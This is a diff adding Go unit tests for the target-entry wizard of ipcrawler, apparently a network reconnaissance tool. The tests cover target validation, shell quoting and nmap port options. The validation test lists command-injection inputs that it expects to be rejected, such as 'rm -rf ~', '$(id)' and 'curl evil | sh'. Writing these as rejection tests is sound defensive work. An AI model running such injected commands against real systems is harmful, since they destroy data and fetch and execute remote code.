@@ -0,0 +1,131 @@
+package wizard
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/neur0map/ipcrawler/internal/config"
+)
+
+func TestValidateTarget(t *testing.T) {
+	tests := []struct {
+		target string
+		ok     bool
+	}{
+		{"10.10.11.42", true},
+		{"10.10.11.0/24", true},
+		{"2001:db8::1", true},
+		{"example.com", true},
+		{"dev-api.internal.example.com", true},
+		{"_dmarc.example.com", true},
+		{"  scanme.nmap.org  ", true},
+		{"", false},
+		{"example.com; rm -rf ~", false},
+		{"$(id)", false},
+		{"a.com && curl evil | sh", false},
+		{"-oX /tmp/x", false},
+		{"http://example.com", false},
+		{"exa mple.com", false},
+	}
+
+	for _, tt := range tests {
+		err := validateTarget(tt.target)
+		if (err == nil) != tt.ok {
+			t.Errorf("validateTarget(%q) error = %v, want ok=%v", tt.target, err, tt.ok)
+		}
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	tests := map[string]string{
+		"/usr/share/seclists/common.txt": `'/usr/share/seclists/common.txt'`,
+		"/tmp/my list.txt":               `'/tmp/my list.txt'`,
+		"/tmp/it's.txt":                  `'/tmp/it'\''s.txt'`,
+	}
+	for in, want := range tests {
+		if got := shellQuote(in); got != want {
+			t.Errorf("shellQuote(%q) = %s, want %s", in, got, want)
+		}
+	}
+}
+
+func TestApplyPortExclusions(t *testing.T) {
+	cfg := &RunConfig{Commands: map[string]string{
+		"Nmap SV Scan": "sudo nmap -sS -sV -Pn -p 1-65535 -oA raw/nmap 10.0.0.1",
+		"Curl Headers": "curl -I -s -L 10.0.0.1",
+	}}
+
+	applyPortExclusions(cfg, "3389,5900-5910")
+
+	want := "sudo nmap --exclude-ports 3389,5900-5910 -sS -sV -Pn -p 1-65535 -oA raw/nmap 10.0.0.1"
+	if got := cfg.Commands["Nmap SV Scan"]; got != want {
+		t.Errorf("nmap command = %q, want %q", got, want)
+	}
+	if got := cfg.Commands["Curl Headers"]; got != "curl -I -s -L 10.0.0.1" {
+		t.Errorf("non-nmap command modified: %q", got)
+	}
+}
+
+func TestApplyNmapPorts(t *testing.T) {
+	cfg := &RunConfig{Commands: map[string]string{
+		"Nmap SV Scan":  "sudo nmap -sS -sV -Pn --top-ports 100 -oA raw/nmap 10.0.0.1",
+		"Nmap UDP Scan": "sudo nmap -sU -sV -Pn --top-ports 20 -oA raw/nmap_udp 10.0.0.1",
+		"Curl Headers":  "curl -I -s -L 10.0.0.1",
+	}}
+
+	applyNmapPorts(cfg, "53,161-162")
+
+	want := map[string]string{
+		"Nmap SV Scan":  "sudo nmap -sS -sV -Pn -p 53,161-162 -oA raw/nmap 10.0.0.1",
+		"Nmap UDP Scan": "sudo nmap -sU -sV -Pn -p U:53,161-162 -oA raw/nmap_udp 10.0.0.1",
+		"Curl Headers":  "curl -I -s -L 10.0.0.1",
+	}
+	for name, w := range want {
+		if got := cfg.Commands[name]; got != w {
+			t.Errorf("%s = %q, want %q", name, got, w)
+		}
+	}
+}
+
+func TestBuildConfigIPv6(t *testing.T) {
+	templates := []config.Template{
+		{Name: "Nmap SV Scan", Command: "nmap -sS -oA {raw_dir}/nmap {target}", TargetType: "both"},
+		{Name: "Curl Headers", Command: "curl -I -s -L -g http://{host}", TargetType: "both"},
+	}
+
+	cfg := buildConfig("2001:db8::1", templates, []string{"Nmap SV Scan", "Curl Headers"}, 1, false)
+
+	if got := cfg.Commands["Nmap SV Scan"]; !strings.HasPrefix(got, "nmap -6 -sS ") {
+		t.Errorf("nmap command = %q, want -6 inserted", got)
+	}
+	if got := cfg.Commands["Curl Headers"]; got != "curl -I -s -L -g http://[2001:db8::1]" {
+		t.Errorf("curl command = %q, want bracketed URL host", got)
+	}
+	if strings.Contains(cfg.OutputDir, ":") {
+		t.Errorf("OutputDir = %q, want colons replaced", cfg.OutputDir)
+	}
+
+	cfg = buildConfig("10.0.0.1", templates, []string{"Nmap SV Scan"}, 1, false)
+	if got := cfg.Commands["Nmap SV Scan"]; strings.Contains(got, "-6") {
+		t.Errorf("IPv4 nmap command = %q, want no -6", got)
+	}
+}
+
+func TestIncompatibleSelected(t *testing.T) {
+	templates := []config.Template{
+		{Name: "Subdomain Resolver", TargetType: "domain"},
+		{Name: "Hakrevdns rDNS", TargetType: "ip"},
+		{Name: "Ping", TargetType: "both"},
+		{Name: "Whois"},
+	}
+	selected := []string{"Subdomain Resolver", "Ping", "Whois"}
+
+	got := incompatibleSelected(templates, selected, "ip")
+	if len(got) != 1 || got[0].Name != "Subdomain Resolver" {
+		t.Errorf("incompatibleSelected(ip) = %v, want [Subdomain Resolver]", got)
+	}
+
+	if got := incompatibleSelected(templates, selected, "domain"); len(got) != 0 {
+		t.Errorf("incompatibleSelected(domain) = %v, want none", got)
+	}
+}